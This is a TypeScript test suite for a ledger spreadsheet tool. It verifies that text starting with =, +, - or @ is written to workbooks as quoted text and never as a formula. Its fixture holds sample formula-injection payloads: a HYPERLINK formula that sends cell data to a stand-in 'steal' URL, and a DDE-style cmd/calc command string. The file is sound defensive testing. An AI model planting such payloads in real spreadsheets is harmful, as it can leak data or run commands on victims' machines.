/**
 * Formula injection: text that starts with = + - @ (a project called "=HYPERLINK(…)", an owner
 * "@SUM(…)", a note "+86 …") must come out of every workbook the product writes as the same text,
 * never as a formula. The guard is src/core/safeText.ts; the writers are the bulletin
 * (`zsledger report`), the highlighted copy (`zsledger check --highlight`) and the pane's
 * 台账设置 sheet (src/excel/settingsSheet.ts). Each output is read back part by part, as Excel
 * would see it: cell types, formulas, styles.
 */
import fc from "fast-check";
import * as fs from "fs";
import * as path from "path";
import { isFormulaLike, textCell } from "../../src/core/safeText";
import { saveSettingsSheet } from "../../src/excel/settingsSheet";
import { entryStream, readCentralDirectory } from "../../src/cli/zip";
import { cellOf, FakeExcel, formatCell } from "../excel/fakeExcel";
import { runCli, tempDir, writeWorkbook } from "../cli/helpers";
import { sampleSheets } from "../sample/sampleLedger";

/** What ledgers may hold, every one of them text to keep as text. */
const HOSTILE = {
  name: '=HYPERLINK("http://example.invalid/steal?"&A1,"点击查看")',
  owner: "@SUM(1+1)*cmd|' /C calc'!A0",
  investor: "+86 538 1234567",
  unit: "-财源街道",
  stage: "=待定",
  fullWidth: "＝1+1",
};

describe("isFormulaLike and textCell", () => {
  test.each([
    ["=1+1", true],
    ["+86 538 1234567", true],
    ["-5", true],
    ["@SUM(A1)", true],
    ["  =1+1", true],
    ["\u3000=A1", true],
    ["＝1+1", true],
    ["＋1", true],
    ["\t财源街道", true],
    ["\r=1", true],
    ["财源街道", false],
    ["1.2亿", false],
    ["2022-08-15", false],
    ["a=b", false],
    ["", false],
    ["（=备注）", false],
  ])("%j → %s", (text, expected) => {
    expect(isFormulaLike(text)).toBe(expected);
    expect(textCell(text)).toEqual({ value: text, quotePrefix: expected });
  });

  test("any text: kept exactly, and marked whenever it starts (after spaces) with = + - @", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.constantFrom("", " ", "\u3000", "\t"), fc.constantFrom("=", "+", "-", "@", "＝", "＠"), (rest, pad, sign) => {
        expect(textCell(rest).value).toBe(rest);
        expect(textCell(pad + sign + rest)).toEqual({ value: pad + sign + rest, quotePrefix: true });
      }),
      { numRuns: 2000 },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Reading a written package back

interface CellXml {
  readonly sheet: string;
  readonly ref: string;
  readonly text: string | null;
  readonly formula: string | null;
  readonly quotePrefix: boolean;
}

async function packageTexts(file: string): Promise<Map<string, string>> {
  const fd = fs.openSync(file, "r");
  const entries = readCentralDirectory(fd, fs.fstatSync(fd).size);
  fs.closeSync(fd);
  if (!Array.isArray(entries)) throw new Error(`not a zip: ${JSON.stringify(entries)}`);
  const parts = new Map<string, string>();
  for (const e of entries) {
    if (!e.name.endsWith(".xml") && !e.name.endsWith(".rels") && !e.name.endsWith(".vml")) continue;
    const chunks: Buffer[] = [];
    for await (const c of entryStream(file, e)) chunks.push(Buffer.from(c as Buffer));
    parts.set(e.name, Buffer.concat(chunks).toString("utf8"));
  }
  return parts;
}

const unescape = (s: string) => s.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, "&");
const texts = (xml: string) => [...xml.matchAll(/<(?:\w+:)?t(?:\s[^>]*)?>([^<]*)<\/(?:\w+:)?t>/g)].map((m) => unescape(m[1])).join("");

/** Every cell of every worksheet: its shown text, its formula, and whether its style has quotePrefix. */
async function cellsOf(file: string): Promise<CellXml[]> {
  const parts = await packageTexts(file);
  const shared = [...(parts.get("xl/sharedStrings.xml") ?? "").matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => texts(m[1]));
  const xfs = /<cellXfs\b[\s\S]*?<\/cellXfs>/.exec(parts.get("xl/styles.xml") ?? "")?.[0] ?? "";
  const quoted = [...xfs.matchAll(/<xf\b([^>]*)>/g)].map((m) => /\bquotePrefix="(1|true)"/.test(m[1]));
  const cells: CellXml[] = [];
  for (const [name, xml] of parts) {
    if (!/^xl\/worksheets\/[^/]+\.xml$/.test(name)) continue;
    for (const m of xml.matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const attrs = m[1];
      const inner = m[2] ?? "";
      const t = /\bt="(\w+)"/.exec(attrs)?.[1];
      const s = Number(/\bs="(\d+)"/.exec(attrs)?.[1] ?? 0);
      const v = /<v>([^<]*)<\/v>/.exec(inner)?.[1];
      const text = t === "s" && v !== undefined ? shared[Number(v)] : t === "inlineStr" ? texts(inner) : t === "str" && v !== undefined ? unescape(v) : null;
      const formula = /<f\b[^>]*>([^<]*)<\/f>|<f\b[^>]*\/>/.exec(inner);
      cells.push({ sheet: name, ref: /\br="([A-Z]+\d+)"/.exec(attrs)?.[1] ?? "", text, formula: formula ? unescape(formula[1] ?? "") : null, quotePrefix: quoted[s] ?? false });
    }
  }
  return cells;
}

/** The sample, with the hostile texts where the bulletin and the highlight show them. */
function hostileSheets() {
  const sheets = sampleSheets();
  const projects = sheets[0].grid;
  // Row 9 is overdue (it goes to 逾期未开工 with its owner); row 28's stage is unknown (a finding quoting it).
  projects[8][1] = HOSTILE.name;
  projects[8][13] = HOSTILE.owner;
  projects[8][2] = HOSTILE.investor;
  projects[27][5] = HOSTILE.stage;
  projects[9][1] = HOSTILE.fullWidth;
  const settings = sheets.find((s) => s.name === "台账设置")!;
  settings.grid[1][1] = HOSTILE.unit;
  return sheets;
}

let dir: string;
let cleanup: () => void;
let ledger: string;

beforeAll(async () => {
  ({ dir, cleanup } = tempDir());
  ledger = await writeWorkbook(path.join(dir, "财源街道招商引资台账.xlsx"), hostileSheets());
});
afterAll(() => cleanup());

function expectTextCells(cells: readonly CellXml[], mustShow: readonly string[]): void {
  for (const hostile of mustShow) {
    const holding = cells.filter((c) => c.text !== null && c.text.includes(hostile));
    expect({ hostile, found: holding.length > 0 }).toEqual({ hostile, found: true });
  }
  for (const c of cells) {
    if (c.text !== null && isFormulaLike(c.text)) expect({ cell: `${c.sheet}!${c.ref}`, text: c.text, quotePrefix: c.quotePrefix }).toEqual({ cell: `${c.sheet}!${c.ref}`, text: c.text, quotePrefix: true });
  }
}

describe("the bulletin (zsledger report)", () => {
  test("stores every text as a string cell, formula-like text with quotePrefix, and no formula at all", async () => {
    const out = path.join(dir, "通报.xlsx");
    const run = await runCli(["report", dir, "--out", out], { today: new Date(2022, 9, 1) });
    expect(run.stderr).not.toMatch(/^\s+at /m);
    expect([0, 1]).toContain(run.code);
    const cells = await cellsOf(out);
    expect(cells.length).toBeGreaterThan(0);
    expect(cells.filter((c) => c.formula !== null)).toEqual([]);
    // The unit, the overdue project and its owner are listed; the stage is quoted in a finding's message.
    expectTextCells(cells, [HOSTILE.unit, HOSTILE.name, HOSTILE.owner]);
    expect(cells.some((c) => c.text !== null && c.text.includes(HOSTILE.stage))).toBe(true);
  });
});

describe("the highlighted copy (zsledger check --highlight)", () => {
  test("keeps the ledger's formula-like texts as the strings they were, adds no cell formula", async () => {
    const out = path.join(dir, "标注.xlsx");
    const run = await runCli(["check", ledger, "--highlight", out], { today: new Date(2022, 9, 1) });
    expect(run.stderr).not.toMatch(/^\s+at /m);
    const before = await cellsOf(ledger);
    const after = await cellsOf(out);
    const byRef = (cells: readonly CellXml[]) => new Map(cells.map((c) => [`${c.sheet}!${c.ref}`, c]));
    const was = byRef(before);
    for (const [ref, c] of byRef(after)) {
      const old = was.get(ref);
      expect({ ref, text: c.text, formula: c.formula }).toEqual({ ref, text: old?.text ?? null, formula: old?.formula ?? null });
    }
    expect(after.filter((c) => c.formula !== null)).toEqual([]);
    for (const hostile of Object.values(HOSTILE)) expect(after.some((c) => c.text === hostile || c.text?.includes(hostile))).toBe(true);
  });
});

describe("the pane's 台账设置 sheet (Office.js)", () => {
  test("a unit name that looks like a formula is written as text (format @), not as a formula", async () => {
    const excel = FakeExcel.fromSheets(sampleSheets());
    const host = excel.host();
    await host.run((context) => saveSettingsSheet(context, host, { unitName: HOSTILE.name, unitKind: "town" }));
    const sheet = excel.sheet("台账设置");
    const names: string[] = [];
    for (let r = 1; r <= 10; r++) if (cellOf(sheet, r, 1).value === "单位名称") names.push(String(r));
    expect(names).toHaveLength(1);
    const cell = cellOf(sheet, Number(names[0]), 2);
    expect(cell).toMatchObject({ value: HOSTILE.name, numberFormat: "@" });
    expect(cell.formula).toBeUndefined();
  });

  /** Notes kept below the settings move when the settings grow; one typed as text must stay text. */
  test("a note kept below the settings that looks like a formula stays text after a save moves it", async () => {
    const sheets = sampleSheets();
    const settings = sheets.find((s) => s.name === "台账设置")!;
    settings.grid.push(["备注", HOSTILE.investor], ["说明", "=仅供参考，请勿删除"]);
    const excel = FakeExcel.fromSheets(sheets);
    const sheet = excel.sheet("台账设置");
    // The clerk typed the notes as text (the cells' format is text), as Excel keeps them.
    for (const row of [5, 6]) {
      formatCell(sheet, row, 2, { numberFormat: "@", value: String(settings.grid[row - 1][1]) });
    }
    const host = excel.host();
    // More settings than before: the notes move down two rows, into cells of the General format.
    await host.run((context) =>
      saveSettingsSheet(context, host, { unitName: "财源街道", unitKind: "town", asOf: 19_265, windowStart: 19_205, windowEnd: 19_265 }),
    );
    const shown: Record<string, unknown> = {};
    for (let r = 1; r <= 12; r++) {
      const c = cellOf(sheet, r, 2);
      if (c.formula !== undefined) shown[`B${r}`] = `formula ${c.formula}`;
      if (c.value === HOSTILE.investor || c.value === "=仅供参考，请勿删除") shown[`B${r}`] = c.value;
    }
    expect(Object.values(shown).sort()).toEqual([HOSTILE.investor, "=仅供参考，请勿删除"].sort());
  });
});
